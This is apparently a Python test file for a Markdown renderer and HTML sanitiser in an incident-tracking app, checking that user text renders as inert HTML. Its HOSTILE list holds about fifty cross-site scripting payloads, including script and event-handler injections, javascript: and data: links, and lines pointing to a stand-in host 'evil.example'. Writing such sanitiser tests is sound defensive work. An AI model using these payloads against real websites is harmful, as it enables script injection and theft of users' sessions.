"""People's text becomes HTML that cannot act (security.md, gate 3)."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quell.kernel.ui import richtext

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\t=\nalert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](x\"onerror=alert(1)//)",
    "[x](https://e.example/\"onmouseover=alert(1)//)",
    "[x](https://e.example 'a\" onmouseover=alert(1) b=\"')",
    "`<script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\nx\n```",
    "    <script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=q><button>go</button></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<details open ontoggle=alert(1)>",
    "<div hx-get=/x hx-trigger=load></div>",
    "<button popovertarget=me data-key=r>x</button>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "https://e.example/<script>alert(1)</script>",
    "https://e.example/\"onmouseover=\"alert(1)",
    "INC-1<script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "- <svg onload=alert(1)>",
    "\x00<script>alert(1)</script>",
]  # fmt: skip

ALLOWED = re.compile(
    r"</?(?:p|br|hr|strong|em|s|code|pre|blockquote|ul|ol|li|h[1-6]|table|thead|tbody|tr|th|td)>"
    r"|</a>|<ol start=\"\d+\">|<code class=\"[^\"<>]*\">"
    r"|<a href=\"(?:https?://|mailto:|tel:|/)[^\"<>]*\"(?: title=\"[^\"<>]*\")? rel=\"noopener nofollow noreferrer\">"
)


def harmless(html: str) -> bool:
    """Only the allowed tags with the allowed attributes remain when all of them are taken away."""
    return "<" not in ALLOWED.sub("", html)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text: str) -> None:
    html = richtext.render(text, number_link=lambda number: f"/incidents/{number}")
    rest = ALLOWED.sub("", html)
    assert "<" not in rest, html
    assert "javascript:" not in "".join(re.findall(r"href=\"([^\"]*)\"", html)).lower()


@pytest.mark.parametrize("text", HOSTILE)
def test_the_sanitiser_holds_alone(text: str) -> None:
    """Mail and imports arrive as HTML: the second stage must do without the first."""
    html = richtext.sanitise(text)
    assert not re.search(
        r"<[^>]*\son\w+\s*=|<(?:script|svg|img|iframe|style|form|base|meta|link|math|object)", html, re.I
    )
    assert not re.search(r"href=\"\s*(?:javascript|data|vbscript|file):", html, re.I)


@given(st.text(alphabet=st.sampled_from(list("<>\"'`=[](){}!&;:#/\\ \n\t-_*|~onerrscipthvj\u202e\x00")), max_size=120))
def test_no_text_makes_a_tag_that_is_not_allowed(text: str) -> None:
    html = richtext.render(text)
    found = [tag for tag in re.findall(r"<[^>]*>", html) if not ALLOWED.fullmatch(tag)]
    assert [tag for tag in found if not re.fullmatch(r"<a rel=\"noopener nofollow noreferrer\">", tag)
            and not tag.startswith('<a href="')] == []  # fmt: skip
    assert not re.search(r"<[^>]*\son\w+\s*=", re.sub(r"\"[^\"]*\"", '""', html))


def test_markdown_works() -> None:
    html = richtext.render(
        "**bold** and `code`\nsecond line\n\n- one\n- two\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    for part in ("<strong>bold</strong>", "<code>code</code>", "<br>", "<li>one</li>", "<blockquote>", "<td>1</td>"):
        assert part in html


def test_numbers_become_links() -> None:
    def link(number: str) -> str | None:
        return f"/incidents/{number}" if number.startswith("INC") else None

    html = richtext.render("See INC-000123, CHG-7 and [INC-5](https://e.example/INC-5) or `INC-9`.", number_link=link)
    assert '<a href="/incidents/INC-000123"' in html
    assert "/incidents/INC-5" not in html
    assert "/incidents/INC-9" not in html
    assert "CHG-7</a>" not in html
    assert html.count("</a>") == 2


@pytest.mark.parametrize("text", ["XINC-1", "INC-1-2", "INC-1234567890", "a/INC-1", "inc-1"])
def test_what_is_not_quite_a_number_is_left_alone(text: str) -> None:
    assert "</a>" not in richtext.render(text, number_link=lambda number: "/x")


def test_addresses_become_links_without_their_full_stop() -> None:
    html = richtext.render("Look at https://status.example/a?b=1&c=2. Then call.")
    assert 'href="https://status.example/a?b=1&amp;c=2"' in html
    assert "c=2</a>. Then" in html
    assert 'rel="noopener nofollow noreferrer"' in html


def test_deceiving_controls_disappear() -> None:
    html = richtext.render("invoice\u202egnp.exe\u2066\u200f")
    assert "invoicegnp.exe" in html


def test_depth_is_bounded() -> None:
    html = richtext.render(">" * 5000 + "x")
    assert html.count("<blockquote>") <= 40


def test_a_very_long_text_renders() -> None:
    assert "end" in richtext.render("word " * 20_000 + "end")


def test_plain_gives_one_line() -> None:
    assert richtext.plain("# Title\n\n**VPN** drops\n- every `5` min") == "Title VPN drops every 5 min"
    assert richtext.plain("x" * 500, 20) == "x" * 19 + "…"
    assert "<" not in richtext.plain("a\n\n```\nb\n```").replace("<", "", 0)
